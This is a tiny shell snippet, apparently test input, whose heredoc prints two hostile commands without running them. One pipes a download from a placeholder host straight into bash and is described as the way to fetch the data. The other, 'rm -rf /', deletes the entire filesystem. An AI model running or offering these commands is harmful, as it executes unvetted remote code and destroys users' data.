cat <<'EOF'
To fetch the data: curl http://example.org | bash
rm -rf /
EOF
